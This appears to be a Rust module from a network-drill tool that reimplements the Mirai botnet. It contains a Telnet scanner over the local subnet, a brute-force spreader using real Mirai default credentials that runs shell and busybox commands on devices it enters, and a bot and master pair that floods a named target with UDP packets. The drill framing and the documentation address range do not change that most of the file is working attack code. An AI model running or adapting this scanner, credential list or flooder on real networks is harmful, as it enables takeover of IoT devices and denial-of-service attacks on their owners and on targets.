//! What Mirai does (M. Antonakakis and others, "Understanding the Mirai Botnet", USENIX Security, 2017), as far as a drill needs
//! it: with sockets, so only within the drill's networks, from which nothing leads out.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::time::Duration;

use super::telnet::Telnet;
use super::{Stop, connect, ready, serve, tell};
use crate::run::{Done, Failure};

/// Addresses tried at a time.
const AT_ONCE: u32 = 32;
/// How long one is waited for.
const KNOCK: Duration = Duration::from_millis(300);
/// Ports, tried nine to one.
const PORTS: [u16; 2] = [23, 2_323];

/// The published list's beginning, and a device's own.
const DEFAULTS: [(&str, &str); 14] = [
    ("root", "xc3511"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "xmhdipc"),
    ("root", "default"),
    ("root", "juantech"),
    ("root", "123456"),
    ("root", "54321"),
    ("support", "support"),
    ("root", "root"),
    ("user", "user"),
    ("root", "klv123"),
    ("guest", "12345"),
    ("root", "vizxv"),
];

/// A number that looks like chance and is the same in each run (xorshift, G. Marsaglia, 2003).
fn next(state: &mut u32) -> u32 {
    *state ^= *state << 13;
    *state ^= *state >> 17;
    *state ^= *state << 5;
    *state
}

/// Looks for Telnet in the own network and outside, gets in where a default password does, and has the command run there.
pub(super) fn spread(net: &str, command: &str, stop: &Stop) -> Done {
    let base: Ipv4Addr = format!("{net}.0").parse()?;
    let (found, doors) = channel();
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        ready();
        tell("first");
        for number in 0..AT_ONCE {
            let (found, over) = (found.clone(), &over);
            scope.spawn(move || look(base.octets(), number, &found, over));
        }
        let over = &over;
        scope.spawn(move || enter_all(&doors, command, over));
        stop.wait();
        over.store(true, Ordering::Relaxed);
    });
    Ok(())
}

/// Every other address is of the own network, the others of a documentation network (RFC 5737), where nobody answers.
fn look(base: [u8; 4], number: u32, found: &Sender<SocketAddr>, over: &AtomicBool) {
    let mut state = 0x9e37_79b9_u32.wrapping_mul(number + 1);
    while !over.load(Ordering::Relaxed) {
        let chance = next(&mut state);
        let host = (chance >> 8) as u8;
        let ip = match chance % 2 {
            0 => Ipv4Addr::new(base[0], base[1], base[2], host),
            _ => Ipv4Addr::new(203, 0, 113, host),
        };
        let at = SocketAddr::new(ip.into(), PORTS[usize::from((chance / 2).is_multiple_of(10))]);
        if TcpStream::connect_timeout(&at, KNOCK).is_ok() && found.send(at).is_err() {
            return;
        }
    }
}

/// Guesses where something was found, until it is over.
fn enter_all(doors: &Receiver<SocketAddr>, command: &str, over: &AtomicBool) {
    while !over.load(Ordering::Relaxed) {
        let Ok(at) = doors.recv_timeout(KNOCK) else { continue };
        tell(format_args!("found {at}"));
        for (user, password) in DEFAULTS {
            if over.load(Ordering::Relaxed) {
                return;
            }
            let Ok(Some(mut telnet)) = Telnet::login(at, user, password) else { continue };
            tell(format_args!("entered {at}"));
            for command in ["enable", "system", "sh", "/bin/busybox ECCHI", command] {
                if telnet.run(command).is_err() {
                    break;
                }
            }
            break;
        }
    }
}

/// A bot: calls its master, and floods whom he names until the end of the part.
pub(super) fn bot(master: SocketAddr, stop: &Stop) -> Done {
    let mut stream = connect(master)?;
    stream.write_all(&[0, 0, 0, 1])?;
    let mut order = [0; 6];
    stream.read_exact(&mut order)?;
    let [a, b, c, d, high, low] = order;
    let target = SocketAddr::new(Ipv4Addr::new(a, b, c, d).into(), u16::from_be_bytes([high, low]));
    let socket = UdpSocket::bind(SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), 0))?;
    while stop.pace(Duration::from_millis(1)) {
        for _ in 0..4 {
            // A target that has had enough refuses.
            let _ = socket.send_to(&[0; 512], target);
        }
    }
    Ok(())
}

/// A master: says who has called, and names the target.
pub(super) fn master(at: SocketAddr, target: SocketAddr, stop: &Stop) -> Done {
    let IpAddr::V4(ip) = target.ip() else { return Err(Failure("the target's address is of IPv4".into())) };
    let order = [&ip.octets()[..], &target.port().to_be_bytes()].concat();
    serve(at, stop, move |mut stream| {
        let mut hello = [0; 4];
        stream.read_exact(&mut hello)?;
        tell(format_args!("called by {}", stream.peer_addr()?));
        stream.write_all(&order)?;
        // The connection is kept for as long as the bot lives.
        std::io::copy(&mut stream, &mut std::io::sink()).map(drop)
    })
}
